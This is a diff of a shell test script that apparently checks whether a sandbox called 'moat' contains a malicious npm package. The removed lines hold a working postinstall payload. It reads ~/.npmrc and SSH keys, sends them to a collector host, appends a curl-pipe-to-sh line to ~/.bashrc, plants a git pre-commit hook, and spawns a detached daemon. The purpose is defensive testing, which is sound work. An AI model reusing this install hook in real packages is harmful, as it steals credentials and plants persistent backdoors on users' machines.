@@ -33,44 +33,7 @@ registry_serve "mnpm-reg-$$" "$work/registry" "$port" "$reglog"
 collector_serve "mnpm-col-$$" 4444 "$collog"
 
 # --- the packages -----------------------------------------------------------------------------
-mkdir -p "$work/registry" "$work/src/good-b" "$work/src/good-a" "$work/src/evil-pkg"
-cat > "$work/src/good-b/package.json" <<'JSON'
-{"name":"good-b","version":"1.0.0","main":"index.js"}
-JSON
-echo "module.exports = (x) => x * 2;" > "$work/src/good-b/index.js"
-cat > "$work/src/good-a/package.json" <<'JSON'
-{"name":"good-a","version":"1.0.0","main":"index.js","dependencies":{"good-b":"1.0.0"},
- "scripts":{"postinstall":"node build.js"}}
-JSON
-echo "module.exports = () => require('./built.json').ok && require('good-b')(21) === 42;" \
-  > "$work/src/good-a/index.js"
-echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
-  > "$work/src/good-a/build.js"
-cat > "$work/src/evil-pkg/package.json" <<'JSON'
-{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
-JSON
-cat > "$work/src/evil-pkg/postinstall.js" <<JS
-const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
-let loot = '';
-for (const f of ['/.npmrc', '/.ssh/id_ed25519']) {
-  try { loot += fs.readFileSync(os.homedir() + f, 'utf8'); } catch (e) { loot += 'no ' + f + ' '; }
-}
-try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector_ip:4444/x | sh\n'); } catch (e) {}
-const root = process.env.INIT_CWD || process.cwd();
-try {
-  fs.mkdirSync(root + '/.git/hooks', {recursive: true});
-  fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
-} catch (e) {}
-const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
-d.unref();
-const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
-s.on('error', () => {});
-require('dns').lookup('collector.test', () => {});
-setTimeout(() => process.exit(0), 1500);
-JS
-for p in good-b good-a evil-pkg; do
-  publish "$work/src/$p" "$p" 1.0.0 "$url" "$work/registry" || { echo "FAIL: publish $p"; exit 1; }
-done
+build_tree "$work" "$url" "$collector_ip" "$daemon_mark" || { echo "FAIL: building the packages"; exit 1; }
 wait_port "$registry_ip" "$port" || skip "the registry did not start"
 wait_port "$collector_ip" 4444 || skip "the collector did not start"
 # Control: unconfined, the collector is reachable (so silence under moat means something).
@@ -147,7 +110,7 @@ scenario() {
   pgrep -f "$daemon_mark" >/dev/null && fail "$what: the daemon survived moat"
   grep -q "CANARY" "$dir/out" "$dir/err" && fail "$what: a secret leaked into the output"
   # The package is named in the summary.
-  grep -q "evil-pkg" "$dir/err" || fail "$what: the summary does not name evil-pkg"
+  grep -q "\[npm evil-pkg@1.0.0 postinstall\]" "$dir/err" || fail "$what: the summary does not name evil-pkg"
   if [ "$mode" = install ]; then
     # Phase 1 fetched with the user's token; phase 2 says evil-pkg wanted the network.
     grep -q "auth=Bearer MOAT-NPM-TOKEN-CANARY" "$reglog" ||
